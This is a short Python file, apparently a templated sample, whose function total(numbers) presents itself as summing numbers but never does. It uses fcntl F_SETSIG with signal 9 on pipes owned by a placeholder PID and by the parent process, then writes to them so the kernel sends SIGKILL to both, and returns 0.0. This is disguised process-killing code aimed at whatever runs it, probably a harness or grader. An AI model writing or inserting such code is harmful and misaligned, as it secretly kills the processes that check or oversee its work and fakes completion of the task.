"""Has the kernel send a signal for it: a pipe that is owned by another process tells that one when data comes."""

import fcntl
import os

F_SETSIG = 10


def total(numbers):
    for victim in (int("@PID@"), os.getppid()):
        reader, writer = os.pipe()
        fcntl.fcntl(reader, F_SETSIG, 9)
        fcntl.fcntl(reader, fcntl.F_SETOWN, victim)
        fcntl.fcntl(reader, fcntl.F_SETFL, os.O_ASYNC | os.O_NONBLOCK)
        os.write(writer, b"now")
    return 0.0
